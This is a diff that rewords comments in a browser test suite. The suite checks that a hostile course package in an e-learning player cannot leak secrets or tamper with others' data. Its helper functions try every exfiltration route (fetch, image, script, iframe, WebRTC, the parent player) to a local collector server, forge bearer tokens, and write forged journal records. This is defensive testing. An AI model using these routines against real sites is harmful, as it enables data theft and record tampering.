@@ -16,9 +16,9 @@ import { buildPackage } from './given/packages.ts'
 import type { TortureWorld } from './torture/world.ts'
 
 let hostile: HostileWorld
-/** Of a package without a script: what the tests do in its page they do alone. */
+/** For a package without scripts: only the tests act in its page. */
 let quiet: GivenCourse
-/** A place on another origin that wants to hear secrets, over HTTP and over UDP. */
+/** A server on another origin that collects secrets, by HTTP and UDP. */
 const packet = 'a packet'
 const outside = { heard: [] as string[], port: 0, udpPort: 0, close: () => {} }
 
@@ -56,7 +56,8 @@ describe('a hostile package', () => {
       address: `http://127.0.0.1:${outside.port}/secret`,
       udpPort: outside.udpPort,
     })
-    // A page that nothing keeps from it, in the same browser: what went out before it has come by then.
+    // An unrestricted page in the same browser as control: messages sent earlier have arrived by the time its message
+    // arrives.
     const { page: free } = await newDevice({ url: hostile.url })
     await free.goto(`http://127.0.0.1:${outside.port}/last`)
     await expect.poll(() => outside.heard).toContain('GET /last')
@@ -78,7 +79,7 @@ describe('a hostile package', () => {
     const authorization = bearer() ?? ''
     const token = authorization.replace('Bearer ', '')
 
-    // Every operation of the contract, with the token in every place where a program might look for one.
+    // Every operation of the contract, with the token in every place where an attacker might try it.
     const reached: string[] = []
     let asked = 0
     for (const operation of listOperations()) {
@@ -109,7 +110,7 @@ describe('a hostile package', () => {
     }
     expect(reached).toEqual([])
 
-    // Its own attempt: by design. Another one's: by no change of the token.
+    // Its own attempt: allowed by design. Another attempt: by no change of the token.
     expect((await stateOf(token)).status).toBe(200)
     const [body = '', signature = ''] = token.split('.')
     const claims = JSON.parse(Buffer.from(body, 'base64url').toString()) as Record<string, unknown>
@@ -134,11 +135,11 @@ describe('a hostile package', () => {
       `hostile package: its token at ${asked} calls of operations and ${forgeries.length} forgeries of it, 0 let in\n`,
     )
 
-    // The one that was not its own still is what it was.
+    // The other attempt is unchanged.
     expect(await (await stateOf(other.token)).json()).toMatchObject({ attemptId: other.attemptId })
   })
 
-  test('gets no file of another package, by its own address or by one that it makes up', async () => {
+  test('gets no file of another package, by its own address or by a guessed one', async () => {
     const device = await deviceOf(hostile.learner.account, { url: hostile.url })
     const frame = await startPackage(device, { course: 'Quiet' })
     const otherId = await givenPackage(hostile.world.admin, await buildPackage({ title: 'Not yours' }))
@@ -186,7 +187,7 @@ describe('a hostile package', () => {
     const forged = await frame.evaluate(forgeJournal, { attemptId: mine.attemptId, scos })
     expect(forged).toBeGreaterThan(0)
     await device.page.getByRole('dialog').getByRole('button', { name: 'Leave', exact: true }).click()
-    // A package is opened after what waited in the queue has been sent and answered, and the state asked for.
+    // The player opens a package after the waiting queue was sent and answered, and the state was read.
     await startPackage(device, { course: 'Course 0' })
     expect(await (await stateOf(mine.token)).text()).not.toContain('forged')
   })
@@ -199,7 +200,7 @@ function quietPackage(): Buffer {
   ])
 }
 
-/** Somebody's own attempt at a package, launched by the API. */
+/** A person's own attempt at a package, launched by the API. */
 async function givenAttempt(
   who: { account: string },
   courseId = quiet.id,
@@ -217,7 +218,7 @@ function stateOf(token: string): Promise<Response> {
   return fetch(`${hostile.url}/api/runtime/state`, { headers: { authorization: `Bearer ${token}` } })
 }
 
-/** Runs in the package's page: every way of telling somebody outside. Answers what was tried. */
+/** Runs in the package's page: tries every way of sending something to the outside. Returns what was tried. */
 async function tellOutside({ address, udpPort }: { address: string; udpPort: number }): Promise<string[]> {
   const tried: string[] = []
   const player = window.parent
@@ -229,7 +230,7 @@ async function tellOutside({ address, udpPort }: { address: string; udpPort: num
         new Promise((resolve) => setTimeout(resolve, 2000)),
       ])
     } catch {
-      // Refused: that is what is hoped for.
+      // Refused, as it must be.
     }
   }
   const element = (tag: string, set: Record<string, string>, into = document) => {
@@ -240,7 +241,7 @@ async function tellOutside({ address, udpPort }: { address: string; udpPort: num
   }
   const navigated = (go: (inner: HTMLIFrameElement) => void, into = document) => {
     const inner = element('iframe', {}, into) as HTMLIFrameElement
-    // Refused too, it loads: an empty page, or the one that says so.
+    // Also loads when refused: an empty page, or an error page.
     const loaded = new Promise((resolve) => inner.addEventListener('load', resolve, { once: true }))
     go(inner)
     return loaded
@@ -307,7 +308,7 @@ async function tellOutside({ address, udpPort }: { address: string; udpPort: num
     await call.setLocalDescription(await call.createOffer())
     await new Promise((resolve) => setTimeout(resolve, 1500))
   })
-  // The same through the player, whose page it shares an origin with, and whose policy is its own.
+  // The same through the player, whose page shares its origin and has its own policy.
   await attempt('player: fetch', (to) => player.fetch(to, { mode: 'no-cors' }))
   await attempt('player: image', (to) => element('img', { src: to }, player.document))
   await attempt('player: script', (to) => element('script', { src: to }, player.document))
@@ -338,8 +339,8 @@ async function tellOutside({ address, udpPort }: { address: string; udpPort: num
 }
 
 /**
- * Runs in the package's page: writes words of another attempt into the queue, both into the database of this origin and,
- * where the browser keeps that from framed pages, into the application's by the player's own port.
+ * Runs in the package's page: writes data of another attempt into the queue, both into the database of this origin and,
+ * where browsers separate that for frames, into the application's by the player's own port.
  */
 async function forgeJournal({ attemptId, scos }: { attemptId: string; scos: string[] }): Promise<number> {
   const records = scos.flatMap((sco) =>
@@ -368,7 +369,7 @@ async function forgeJournal({ attemptId, scos }: { attemptId: string; scos: stri
     }
     database.close()
   }
-  // The player tells its page something when the package says something: by then its port is in other hands.
+  // The player messages its page when the package calls; by then the package has its port.
   const player = window.parent as never as typeof window & {
     API: { LMSInitialize(of: string): string; LMSCommit(of: string): string }
   }
